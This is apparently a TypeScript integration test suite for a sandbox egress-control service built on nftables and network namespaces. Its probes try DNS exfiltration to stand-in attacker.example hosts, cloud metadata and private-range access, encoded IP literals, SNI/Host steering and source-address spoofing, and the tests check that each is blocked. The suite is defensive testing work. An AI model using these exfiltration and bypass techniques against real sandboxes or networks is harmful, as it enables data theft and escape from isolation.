import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { nftSetElements, nftTables } from '../host/nft.js';
import { listLinks, listNetns } from '../host/netns.js';
import { NetRig, RIG } from '@airlock/testkit/net-rig.js';
import { settings, startRigNetwork } from '@airlock/testkit/net-service.js';
import type { NetworkService } from './network-service.js';
import { peersGroup } from './nft-ruleset.js';

describe('egress from a plain namespace, judged at the rig', { timeout: 300_000 }, () => {
  let rig: NetRig;
  let net: NetworkService;
  before(async () => {
    rig = await NetRig.start();
    net = await startRigNetwork(rig);
  });
  after(async () => {
    for (const r of net?.records() ?? []) await net.detach(r.id);
    await net?.close({ removeTable: true });
    await rig?.stop();
  });

  test('an allow-list of one name reaches it over the proxy and the resolved-address path, and nothing else arrives', async () => {
    const a = await net.attach('sb-allowlist0000000000', settings({ egress: { allow: ['ok.rig.test'] } }));
    rig.clear();
    const r = await rig.probe(a.netnsPath, [
      { op: 'resolve', name: 'ok.rig.test' },
      { op: 'tcp', host: RIG.allowed, port: 7000 },
      { op: 'http', host: RIG.allowed, port: 80, requests: [{ host: 'ok.rig.test' }] },
      { op: 'tls', host: RIG.denied, port: 443, servername: 'ok.rig.test' },
      { op: 'tcp', host: RIG.denied, port: 7000 },
      { op: 'resolve', name: 'other.rig.test' },
      { op: 'dns', server: '8.8.8.8', name: 'secret1.attacker.example' },
    ]);
    assert.deepEqual(r[0], { addresses: [RIG.allowed] });
    const tcp = rig.arrivals((x) => x.kind === 'tcp');
    assert.deepEqual(tcp.map((x) => `${x.to}:${x.port}`).sort(), [`${RIG.allowed}:443`, `${RIG.allowed}:7000`, `${RIG.allowed}:80`], JSON.stringify(tcp));
    assert.deepEqual([...new Set(rig.questions())], ['ok.rig.test']);
    const denied = net
      .events(a.id)!
      .events.filter((e) => e.verdict === 'denied')
      .map((e) => e.name);
    assert.deepEqual(denied, ['other.rig.test', 'secret1.attacker.example']);
    await net.detach(a.id);
  });

  test('DNS exfiltration: nothing outside the list reaches the authoritative server, by any resolver, transport or label', async () => {
    const a = await net.attach('sb-exfiltration0000000', settings({ egress: { allow: ['ok.rig.test', '*.wild.rig.test'] } }));
    const long = 'x'.repeat(63);
    const ops = [
      { op: 'resolve', name: 'c1.attacker.example' },
      { op: 'dns', server: RIG.rigEnd, name: 'c2.attacker.example' },
      { op: 'dns', server: RIG.otherResolver, name: 'c3.attacker.example', tcp: true },
      { op: 'dns', server: '1.1.1.1', name: 'c4.attacker.example', type: 'TXT' },
      { op: 'dns', server: RIG.rigEnd, name: `${long}.${long}.${long}.attacker.example` },
      { op: 'dns', server: RIG.rigEnd, name: 'x', rawLabels: ['c5\x00', 'attacker', 'example'] },
      { op: 'dns', server: RIG.rigEnd, name: 'x', rawLabels: ['c6.ok', 'rig', 'test'] },
      { op: 'dns', server: RIG.rigEnd, name: 'wild.rig.test' },
      { op: 'dns', server: RIG.rigEnd, name: 'OK.RIG.TEST.', type: 'HTTPS' },
      { op: 'dns', server: RIG.rigEnd, name: 'ok.rig.test', type: 'AAAA' },
      { op: 'dns', server: RIG.rigEnd, name: 'c7.wild.rig.test', tcp: true },
    ];
    rig.clear();
    const r = await rig.probe(a.netnsPath, ops);
    assert.deepEqual([...new Set(rig.questions())], ['c7.wild.rig.test'], JSON.stringify(rig.questions()));
    assert.equal(r[5].rcode, 'REFUSED');
    assert.equal(r[6].rcode, 'REFUSED');
    assert.equal(r[7].rcode, 'NXDOMAIN', 'a wildcard does not cover its base name');
    assert.deepEqual([r[8].rcode, r[8].answers], ['NOERROR', []], 'no HTTPS/SVCB records');
    assert.deepEqual(r[10].answers, [RIG.wild]);
    // Positive control: with `all`, the same kind of question does reach the authoritative server.
    await net.update(a.id, settings({ egress: 'all' }));
    rig.clear();
    await rig.probe(a.netnsPath, [{ op: 'dns', server: '1.1.1.1', name: 'c8.attacker.example' }]);
    assert.deepEqual(rig.questions(), ['c8.attacker.example']);
    await net.detach(a.id);
  });

  test('metadata, host services, private ranges, other sandboxes and IP-literal encodings stay unreachable; the controls arrive', async () => {
    const a = await net.attach('sb-denyset000000000000', settings({ egress: { allow: ['ok.rig.test'] } }));
    const b = await net.attach('sb-neighbour0000000000', settings({ egress: 'none' }));
    const neighbour = await rig.listenIn(b.netnsPath, [7000]);
    const hostPort = rig.hostServicePort;
    const decimal = String(((203 << 24) >>> 0) + (113 << 8) + 20);
    const literals = [
      { op: 'tcp', host: '::ffff:203.0.113.20', port: 7000 },
      { op: 'tcp', host: decimal, port: 7000 },
      { op: 'tcp', host: '0313.0.0161.024', port: 5432 },
    ];
    const forbidden = [
      { op: 'tcp', host: RIG.metadata, port: 80 },
      { op: 'dns', server: RIG.rigEnd, name: 'meta.rig.test' },
      { op: 'dns', server: RIG.rigEnd, name: 'private.rig.test' },
      { op: 'dns', server: RIG.rigEnd, name: 'host.rig.test' },
      { op: 'tcp', host: RIG.privateHost, port: 5432 },
      { op: 'tcp', host: a.hostAddress, port: hostPort },
      { op: 'tcp', host: RIG.hostEnd, port: hostPort },
      { op: 'tcp', host: b.address, port: 7000 },
      { op: 'tcp', host: b.hostAddress, port: hostPort },
    ];
    const tcpArrivals = () =>
      rig
        .arrivals((x) => x.kind === 'tcp')
        .map((x) => `${x.to}:${x.port}`)
        .sort();
    rig.clear();
    await rig.probe(a.netnsPath, [...literals, ...forbidden]);
    assert.deepEqual(tcpArrivals(), []);
    // With `all`: the public rig address arrives in every spelling (the control), the rest still not,
    // and names that resolve into the deny set come back without addresses.
    await net.update(a.id, settings({ egress: 'all' }));
    rig.clear();
    const r = await rig.probe(a.netnsPath, [...literals, ...forbidden]);
    assert.deepEqual(tcpArrivals(), [`${RIG.denied}:5432`, `${RIG.denied}:7000`, `${RIG.denied}:7000`], JSON.stringify(r));
    assert.deepEqual([r[4].answers, r[5].answers, r[6].answers], [[], [], []]);
    assert.deepEqual(rig.hostLog, []);
    assert.deepEqual(
      neighbour.filter((x) => x.kind === 'tcp'),
      [],
    );
    // Controls for the deny set: an explicit private entry opens 10.1.2.3 on its port only, and the
    // host service and the neighbour's listener answer when asked from the host.
    await net.update(a.id, settings({ egress: { allow: [`${RIG.privateHost}:5432/tcp`] } }));
    rig.clear();
    await rig.probe(a.netnsPath, [
      { op: 'tcp', host: RIG.privateHost, port: 5432 },
      { op: 'tcp', host: RIG.privateHost, port: 7000 },
    ]);
    assert.deepEqual(tcpArrivals(), [`${RIG.privateHost}:5432`]);
    const { connect } = await import('node:net');
    for (const [host, port] of [
      [RIG.hostEnd, hostPort],
      [b.address, 7000],
    ] as const) {
      await new Promise<void>((res) =>
        connect({ host, port })
          .on('connect', function (this: import('node:net').Socket) {
            this.destroy();
            res();
          })
          .on('error', () => res()),
      );
    }
    await new Promise((res) => setTimeout(res, 200));
    assert.equal(rig.hostLog.length, 1);
    assert.equal(neighbour.filter((x) => x.kind === 'tcp').length, 1);
    await net.detach(a.id);
    await net.detach(b.id);
  });

  test('SNI and Host cannot steer the proxy: a lying SNI goes to the name, a Host switch on keep-alive is refused, no SNI is refused', async () => {
    const a = await net.attach('sb-sniandhost000000000', settings({ egress: { allow: ['ok.rig.test:80', 'ok.rig.test:443'] } }));
    rig.clear();
    const r = await rig.probe(a.netnsPath, [
      { op: 'http', host: RIG.denied, port: 80, requests: [{ host: 'ok.rig.test' }, { host: 'other.rig.test' }, { host: RIG.denied }] },
      { op: 'tls', host: RIG.denied, port: 443, servername: 'other.rig.test' },
      { op: 'tls', host: RIG.denied, port: 443 },
      { op: 'tcp', host: RIG.allowed, port: 7000 },
    ]);
    const tcp = rig.arrivals((x) => x.kind === 'tcp').map((x) => `${x.to}:${x.port}`);
    assert.deepEqual(tcp, [`${RIG.allowed}:80`], JSON.stringify(r));
    assert.match(r[0].replies[0], /rig 203\.0\.113\.10:80/);
    assert.match(r[0].replies[1], /^HTTP\/1\.1 403/);
    await net.detach(a.id);
  });

  test('an update takes effect both ways at run time, and a rejected one leaves the old policy in force', async () => {
    const a = await net.attach('sb-update0000000000000', settings({ egress: 'none' }));
    const attempt = async () => {
      rig.clear();
      await rig.probe(a.netnsPath, [
        { op: 'tcp', host: RIG.denied, port: 7000 },
        { op: 'udp', host: RIG.denied, port: 7001 },
      ]);
      return rig.arrivals((x) => x.kind === 'tcp' || x.kind === 'udp').map((x) => `${x.kind}:${x.port}`);
    };
    assert.deepEqual(await attempt(), []);
    await net.update(a.id, settings({ egress: { allow: [`${RIG.denied}:7000-7001`] } }));
    assert.deepEqual((await attempt()).sort(), ['tcp:7000', 'udp:7001']);
    await assert.rejects(net.update(a.id, settings({ egress: { allow: ['*.bad*.example', '169.254.169.254'] } })), (e: Error & { issues?: unknown[] }) => {
      assert.equal(e.issues?.length, 2);
      return true;
    });
    assert.deepEqual((await attempt()).sort(), ['tcp:7000', 'udp:7001'], 'the previous policy stays');
    await net.update(a.id, settings({ egress: { allow: [`${RIG.denied}:7000/tcp`], deny: [`${RIG.denied}/32`] } }));
    assert.deepEqual(await attempt(), [], 'deny wins');
    await net.detach(a.id);
  });

  test('a sandbox cannot spoof another source address', async () => {
    const a = await net.attach('sb-spoof00000000000000', settings({ egress: 'none' }));
    const b = await net.attach('sb-spoofvictim00000000', settings({ egress: 'all' }));
    await rig.inside(a.netnsPath, ['ip', 'addr', 'add', `${b.address}/32`, 'dev', 'eth0']);
    rig.clear();
    // As root in its namespace, with the victim's address as source: nothing arrives.
    await rig.probe(a.netnsPath, [{ op: 'tcp', host: RIG.denied, port: 7000 }], { root: true });
    await rig.inside(a.netnsPath, ['ip', 'route', 'replace', 'default', 'via', a.hostAddress, 'src', b.address]);
    await rig.probe(a.netnsPath, [{ op: 'tcp', host: RIG.denied, port: 7000 }], { root: true });
    assert.deepEqual(
      rig.arrivals((x) => x.kind === 'tcp'),
      [],
    );
    // Control: from the victim itself, the same connection arrives.
    await rig.probe(b.netnsPath, [{ op: 'tcp', host: RIG.denied, port: 7000 }]);
    assert.equal(rig.arrivals((x) => x.kind === 'tcp').length, 1);
    await net.detach(a.id);
    await net.detach(b.id);
  });

  test("a sandbox cannot borrow an opted-in peer's address to reach the other peers", async () => {
    const attacker = await net.attach('sb-peerspoof0000000000', settings({ egress: 'none' }), 'alpha');
    const victim = await net.attach('sb-peervictim000000000', settings({ peers: 'project' }), 'alpha');
    const target = await net.attach('sb-peertarget000000000', settings({ peers: 'project' }), 'alpha');
    const log = await rig.listenIn(target.netnsPath, [7000]);
    const tcp = () => log.filter((x) => x.kind === 'tcp').map((x) => x.from);
    // Control: the victim itself reaches the target.
    await rig.probe(victim.netnsPath, [{ op: 'tcp', host: target.address, port: 7000 }]);
    assert.deepEqual(tcp(), [victim.address]);
    await rig.inside(attacker.netnsPath, ['ip', 'addr', 'add', `${victim.address}/32`, 'dev', 'eth0']);
    await rig.inside(attacker.netnsPath, ['ip', 'route', 'replace', 'default', 'via', attacker.hostAddress, 'src', victim.address]);
    await rig.probe(attacker.netnsPath, [{ op: 'tcp', host: target.address, port: 7000 }], { root: true });
    assert.deepEqual(tcp(), [victim.address], 'nothing more arrived');
    // Switched off by updates, the last member takes its group (set and chain) along.
    await net.update(victim.id, settings({ peers: 'none' }));
    assert.deepEqual(await nftSetElements(net.tableName, peersGroup('alpha')), [target.address]);
    await net.update(target.id, settings({ peers: 'none' }));
    assert.equal(await nftSetElements(net.tableName, peersGroup('alpha')), undefined);
    for (const s of [attacker, victim, target]) await net.detach(s.id);
  });

  test('detach leaves no namespace, link or nft objects of the sandbox', async () => {
    assert.deepEqual(listNetns(net.plan.netnsPrefix), []);
    assert.deepEqual(listLinks(net.plan.vethPrefix), []);
    assert.deepEqual(await nftTables(net.tableName), [net.tableName]);
  });
});
